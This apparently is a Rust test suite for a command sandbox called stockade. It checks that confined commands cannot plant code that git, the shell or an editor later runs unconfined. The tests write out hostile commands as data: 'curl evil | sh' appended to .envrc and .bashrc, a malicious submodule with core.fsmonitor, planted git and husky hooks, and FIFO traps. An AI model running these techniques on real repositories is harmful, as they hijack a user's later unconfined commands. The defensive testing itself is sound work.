//! What git (and the host, and an editor) later runs unconfined stays out of
//! a confined command's reach: the exploit is run for real through
//! `stockade exec` on both backends, as root and (when we are root, as in
//! CI) as `nobody`, and then the user's own git runs for real, unconfined,
//! with a marker that shows whether anything planted ran.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::PathBuf;

use stockade_testkit::users::users;

mod common;
use common::*;

/// The red team's exploit: a submodule git dir under `.git/modules` with a
/// `core.fsmonitor`, a `.gitmodules` entry and a gitlink in the index. The
/// user's next `git status` recursed into it and ran the monitor,
/// unconfined. Now `.git/modules` is read-only as a whole: no submodule git
/// dir can be made, so nothing planted runs.
#[test]
fn a_submodule_git_dir_with_an_fsmonitor_cannot_be_planted() {
    let base = base();
    for who in users() {
        for backend in backends() {
            let home = owned_dir(&base, "home-", who);
            let ws = repo(&base, who, home.path());
            let marker = home.path().join("fsmonitor-ran");
            let attack = format!(
                "{mon}; g() {{ git -c user.name=t -c user.email=t@t \"$@\"; }}; \
                 mkdir -p .git/modules/evil; \
                 g init -q --separate-git-dir \"$PWD/.git/modules/evil\" evil; \
                 g -C evil config core.fsmonitor \"$PWD/mon.sh\"; \
                 g -C evil commit -q --allow-empty -m e; \
                 printf '[submodule \"evil\"]\\n\\tpath = evil\\n\\turl = ./evil\\n' >> .gitmodules; \
                 g update-index --add --cacheinfo 160000,$(g -C evil rev-parse HEAD),evil; \
                 test -f .git/modules/evil/config",
                mon = marker_script(&marker)
            );
            let out = exec(who, home.path(), None, backend, ws.path(), &[], &attack);
            assert!(
                !out.status.success(),
                "{who:?} {backend}: the submodule git dir was made: {}",
                text(&out.stderr)
            );
            assert!(!ws.path().join(".git/modules/evil").exists());
            // The user's real `git status`, unconfined, afterwards.
            let st = user_git(who, home.path(), None, ws.path(), &["status"]);
            assert!(st.status.success(), "{}", text(&st.stderr));
            assert!(
                !marker.exists(),
                "{who:?} {backend}: the planted fsmonitor ran at the user's git status"
            );
            // The workspace's own git still works inside the sandbox.
            let out = exec(
                who,
                home.path(),
                None,
                backend,
                ws.path(),
                &[],
                "echo a > a && git add a && git -c user.name=t -c user.email=t@t commit -qm a && echo ok",
            );
            assert_eq!(text(&out.stdout).trim(), "ok", "{}", text(&out.stderr));
        }
    }
}

/// `core.hooksPath = .githooks` (relative) in the user's global config:
/// the workspace's effective hooks directory is `.githooks` in it. Missing,
/// it is created empty and protected; a hook planted there is refused, and
/// the user's next commit runs nothing.
#[test]
fn a_relative_hooks_path_from_the_global_config_is_protected() {
    let base = base();
    for who in users() {
        for backend in backends() {
            let home = owned_dir(&base, "home-", who);
            let global = home.path().join("global.gitconfig");
            fs::write(&global, "[core]\n\thooksPath = .githooks\n").unwrap();
            who.own(&global);
            let ws = repo(&base, who, home.path());
            let marker = home.path().join("hook-ran");
            let attack = format!(
                "mkdir -p .githooks; printf '#!/bin/sh\\ntouch {}\\n' > .githooks/post-commit && chmod +x .githooks/post-commit",
                marker.display()
            );
            let out = exec(
                who,
                home.path(),
                Some(&global),
                backend,
                ws.path(),
                &[],
                &attack,
            );
            assert!(
                !out.status.success(),
                "{who:?} {backend}: planted a hook: {}",
                text(&out.stderr)
            );
            assert!(ws.path().join(".githooks").is_dir());
            assert!(!ws.path().join(".githooks/post-commit").exists());
            let c = user_git(
                who,
                home.path(),
                Some(&global),
                ws.path(),
                &["commit", "-q", "--allow-empty", "-m", "two"],
            );
            assert!(c.status.success(), "{}", text(&c.stderr));
            assert!(!marker.exists(), "{who:?} {backend}: a planted hook ran");
        }
    }
}

/// Husky: `core.hooksPath = .husky/_`, whose generated hooks source the
/// scripts in `.husky/`: the whole `.husky/` is read-only.
#[test]
fn husky_scripts_are_read_only_as_a_whole() {
    let base = base();
    for who in users() {
        let home = owned_dir(&base, "home-", who);
        let ws = repo(&base, who, home.path());
        fs::create_dir_all(ws.path().join(".husky/_")).unwrap();
        fs::write(ws.path().join(".husky/pre-commit"), "npm test\n").unwrap();
        fs::write(
            ws.path().join(".husky/_/pre-commit"),
            "#!/bin/sh\n. \"$(dirname \"$0\")/../pre-commit\"\n",
        )
        .unwrap();
        who.own(ws.path());
        let out = user_git(
            who,
            home.path(),
            None,
            ws.path(),
            &["config", "core.hooksPath", ".husky/_"],
        );
        assert!(out.status.success());
        for backend in backends() {
            for attack in [
                "echo 'touch /tmp/pwned' >> .husky/pre-commit",
                "printf 'touch /tmp/pwned\\n' > .husky/post-commit",
                "rm .husky/pre-commit",
                "mv .husky .husky-old",
            ] {
                let out = exec(who, home.path(), None, backend, ws.path(), &[], attack);
                assert!(
                    !out.status.success(),
                    "{who:?} {backend}: `{attack}` succeeded"
                );
            }
            assert_eq!(
                fs::read_to_string(ws.path().join(".husky/pre-commit")).unwrap(),
                "npm test\n"
            );
            assert!(!ws.path().join(".husky/post-commit").exists());
        }
    }
}

/// A symlink planted where a protected path is (`.git/modules/x/hooks ->
/// /`, `.git/hooks -> ../planted`) used to make every later run exit 125.
/// Now the run goes on; only the one path is kept: the git dir holding the
/// link is read-only for the run, and where the link points inside the
/// workspace is protected.
#[test]
fn a_planted_symlink_fails_one_path_not_the_workspace() {
    let base = base();
    for who in users() {
        for backend in backends() {
            let home = owned_dir(&base, "home-", who);
            let ws = repo(&base, who, home.path());
            let g = ws.path().join(".git");
            fs::create_dir_all(g.join("modules/x")).unwrap();
            fs::write(g.join("modules/x/HEAD"), "ref: refs/heads/main\n").unwrap();
            symlink("/", g.join("modules/x/hooks")).unwrap();
            who.own(ws.path());
            let out = exec(
                who,
                home.path(),
                None,
                backend,
                ws.path(),
                &[],
                "echo a > a && git add a && git -c user.name=t -c user.email=t@t commit -qm a && echo ok",
            );
            assert_eq!(
                (out.status.code(), text(&out.stdout).trim()),
                (Some(0), "ok"),
                "{who:?} {backend}: {}",
                text(&out.stderr)
            );
            // Now at a name git reads in the workspace's own git dir.
            fs::create_dir(ws.path().join("planted")).unwrap();
            fs::remove_dir_all(g.join("hooks")).unwrap();
            symlink("../planted", g.join("hooks")).unwrap();
            who.own(ws.path());
            let out = exec(who, home.path(), None, backend, ws.path(), &[], "echo ok");
            assert_eq!(
                (out.status.code(), text(&out.stdout).trim()),
                (Some(0), "ok"),
                "{who:?} {backend}: {}",
                text(&out.stderr)
            );
            for attack in [
                "printf '#!/bin/sh\\n' > planted/post-commit",
                "rm .git/hooks && mkdir .git/hooks",
                "ln -sfn /tmp .git/hooks",
            ] {
                let out = exec(who, home.path(), None, backend, ws.path(), &[], attack);
                assert!(
                    !out.status.success(),
                    "{who:?} {backend}: `{attack}` succeeded"
                );
            }
            assert!(!ws.path().join("planted/post-commit").exists());
            assert_eq!(
                fs::read_link(g.join("hooks")).unwrap(),
                PathBuf::from("../planted")
            );
        }
    }
}

/// Files the host or an editor runs without asking: `.envrc` (direnv),
/// `.vscode/tasks.json` and settings, `.mcp.json`, `.gitmodules`, read-only
/// by default; the list is the config's or the flags' to change.
#[test]
fn host_run_files_are_read_only_by_default_and_the_list_can_change() {
    let base = base();
    for who in users() {
        let home = owned_dir(&base, "home-", who);
        let ws = repo(&base, who, home.path());
        let p = ws.path();
        fs::write(p.join(".envrc"), "export A=1\n").unwrap();
        fs::create_dir(p.join(".vscode")).unwrap();
        fs::write(p.join(".vscode/tasks.json"), "{}\n").unwrap();
        fs::write(p.join(".mcp.json"), "{}\n").unwrap();
        fs::write(p.join(".gitmodules"), "").unwrap();
        fs::create_dir(p.join("tools")).unwrap();
        fs::write(p.join("tools/run.sh"), "#!/bin/sh\n").unwrap();
        who.own(p);
        for backend in backends() {
            for attack in [
                "echo 'curl evil | sh' >> .envrc",
                "rm .envrc",
                "mv .envrc x",
                "echo '{\"tasks\":[]}' > .vscode/tasks.json",
                "echo '{}' > .vscode/settings.json",
                "rm -r .vscode",
                "echo '{\"mcpServers\":{}}' > .mcp.json",
                "echo '[submodule \"x\"]' >> .gitmodules",
            ] {
                let out = exec(who, home.path(), None, backend, p, &[], attack);
                assert!(
                    !out.status.success(),
                    "{who:?} {backend}: `{attack}` succeeded"
                );
            }
            assert_eq!(
                fs::read_to_string(p.join(".envrc")).unwrap(),
                "export A=1\n"
            );
            assert_eq!(
                fs::read_to_string(p.join(".vscode/tasks.json")).unwrap(),
                "{}\n"
            );
            assert!(!p.join(".vscode/settings.json").exists());
            assert_eq!(fs::read_to_string(p.join(".mcp.json")).unwrap(), "{}\n");
            // Elsewhere the workspace is written as ever.
            let out = exec(who, home.path(), None, backend, p, &[], "echo x > free.txt");
            assert!(out.status.success(), "{}", text(&out.stderr));
            // The flags change the list: --protect adds a name, and
            // --no-default-protect drops the default one.
            let out = exec(
                who,
                home.path(),
                None,
                backend,
                p,
                &["--protect", "tools/run.sh"],
                "echo x >> tools/run.sh",
            );
            assert!(!out.status.success(), "{who:?} {backend}: --protect");
            let out = exec(
                who,
                home.path(),
                None,
                backend,
                p,
                &["--no-default-protect"],
                "echo '# ok' >> .envrc",
            );
            assert!(
                out.status.success(),
                "{who:?} {backend}: {}",
                text(&out.stderr)
            );
            fs::write(p.join(".envrc"), "export A=1\n").unwrap();
            who.own(p);
        }
        // A bad entry fails before anything runs, naming the flag and value.
        let out = exec(
            who,
            home.path(),
            None,
            "landlock",
            p,
            &["--protect", "/etc/x"],
            "true",
        );
        assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
        assert!(
            text(&out.stderr).contains("--protect \"/etc/x\""),
            "{}",
            text(&out.stderr)
        );
    }
}

/// `~/.bashrc` and `~/.gitconfig` are protected when the workspace contains
/// `$HOME` (a run in the home directory itself).
#[test]
fn shell_rc_files_and_the_global_gitconfig_are_read_only_when_home_is_writable() {
    let base = base();
    for who in users() {
        for backend in backends() {
            let home = owned_dir(&base, "home-", who);
            let h = home.path();
            fs::write(h.join(".bashrc"), "# rc\n").unwrap();
            fs::write(h.join(".gitconfig"), "[user]\n\tname = t\n").unwrap();
            who.own(h);
            for (i, attack) in [
                "echo 'curl evil | sh' >> .bashrc",
                "printf '[core]\\n\\tpager = ./p\\n' >> .gitconfig",
            ]
            .into_iter()
            .enumerate()
            {
                // `$HOME` is the workspace here, so the default runtime dir
                // (the proxy's socket) would lie in a writable root: the
                // network is denied instead. The command must have run
                // (its own file lands) and then failed on the protected
                // one, not been refused before it started.
                let script = format!("touch ran-{i} && {attack}");
                let out = exec(
                    who,
                    h,
                    Some(&h.join(".gitconfig")),
                    backend,
                    h,
                    &["--network", "deny"],
                    &script,
                );
                assert!(
                    h.join(format!("ran-{i}")).exists(),
                    "{who:?} {backend}: `{attack}` never ran: {}",
                    String::from_utf8_lossy(&out.stderr)
                );
                assert!(
                    !out.status.success() && out.status.code() != Some(125),
                    "{who:?} {backend}: `{attack}`: {:?} {}",
                    out.status,
                    String::from_utf8_lossy(&out.stderr)
                );
            }
            assert_eq!(fs::read_to_string(h.join(".bashrc")).unwrap(), "# rc\n");
            assert_eq!(
                fs::read_to_string(h.join(".gitconfig")).unwrap(),
                "[user]\n\tname = t\n"
            );
        }
    }
}

/// Programs and scripts the configuration names (`core.fsmonitor`,
/// `core.pager`, a filter, an alias) and the files it includes are
/// read-only where they lie in the workspace; the user's next `git status`
/// runs the monitor as it was.
#[test]
fn programs_and_includes_the_config_names_are_read_only() {
    let base = base();
    for who in users() {
        for backend in backends() {
            let home = owned_dir(&base, "home-", who);
            let ws = repo(&base, who, home.path());
            let p = ws.path();
            let marker = home.path().join("planted-ran");
            fs::create_dir(p.join("tools")).unwrap();
            for f in ["mon.sh", "pager.sh", "clean.sh", "st.sh"] {
                fs::write(p.join("tools").join(f), "#!/bin/sh\nexit 0\n").unwrap();
                fs::set_permissions(p.join("tools").join(f), fs::Permissions::from_mode(0o755))
                    .unwrap();
            }
            fs::write(
                p.join("team.gitconfig"),
                "[filter \"x\"]\n\tclean = sh tools/clean.sh\n[alias]\n\tst = !tools/st.sh\n",
            )
            .unwrap();
            let mut cfg = fs::read_to_string(p.join(".git/config")).unwrap();
            cfg.push_str(
                "[core]\n\tfsmonitor = tools/mon.sh\n\tpager = \"./tools/pager.sh\" -R\n[include]\n\tpath = ../team.gitconfig\n",
            );
            fs::write(p.join(".git/config"), cfg).unwrap();
            who.own(p);
            for target in [
                "tools/mon.sh",
                "tools/pager.sh",
                "tools/clean.sh",
                "tools/st.sh",
                "team.gitconfig",
            ] {
                let attack = format!(
                    "printf '#!/bin/sh\\ntouch {}\\n' > {target}",
                    marker.display()
                );
                let out = exec(who, home.path(), None, backend, p, &[], &attack);
                assert!(!out.status.success(), "{who:?} {backend}: rewrote {target}");
            }
            let st = user_git(who, home.path(), None, p, &["status"]);
            assert!(st.status.success(), "{}", text(&st.stderr));
            assert!(
                !marker.exists(),
                "{who:?} {backend}: a rewritten program ran"
            );
            // The rest of the tree is written as ever.
            let out = exec(
                who,
                home.path(),
                None,
                backend,
                p,
                &[],
                "echo x > tools/other.sh",
            );
            assert!(out.status.success(), "{}", text(&out.stderr));
        }
    }
}

/// What stockade reads of the repository before (and after) a run may have
/// been planted by an earlier run: a FIFO where the configuration includes
/// a file that does not exist yet, or where a linked worktree's
/// `config.worktree` and `commondir` go (`worktrees/` stays writable for
/// `git worktree add`). Opening a FIFO blocks; the next run must still
/// start, run and end (the FIFO fails that one read, not the workspace).
#[test]
fn a_fifo_planted_where_git_reads_does_not_hang_the_next_run() {
    let base = base();
    for who in users() {
        for backend in backends() {
            let home = owned_dir(&base, "home-", who);
            let ws = repo(&base, who, home.path());
            let p = ws.path();
            let mut cfg = fs::read_to_string(p.join(".git/config")).unwrap();
            cfg.push_str("[include]\n\tpath = ../later.gitconfig\n");
            fs::write(p.join(".git/config"), cfg).unwrap();
            let plant = "mkfifo later.gitconfig && mkdir -p .git/worktrees/evil && \
                         mkfifo .git/worktrees/evil/config.worktree .git/worktrees/evil/commondir \
                         .git/worktrees/evil/gitdir";
            let out = exec(who, home.path(), None, backend, p, &[], plant);
            assert!(
                out.status.success(),
                "{who:?} {backend}: the plant itself failed: {}",
                text(&out.stderr)
            );
            // A failure detector only: a run that has not ended by then hung.
            let mut next = exec_command(who, home.path(), None, backend, p, &[], "touch ran")
                .spawn()
                .unwrap();
            let mut status = None;
            for _ in 0..600 {
                status = next.try_wait().unwrap();
                if status.is_some() {
                    break;
                }
                std::thread::sleep(std::time::Duration::from_millis(100));
            }
            if status.is_none() {
                let _ = next.kill();
                let _ = next.wait();
                panic!("{who:?} {backend}: the run after the plant hung");
            }
            assert!(status.unwrap().success(), "{who:?} {backend}");
            assert!(p.join("ran").exists(), "{who:?} {backend}");
        }
    }
}
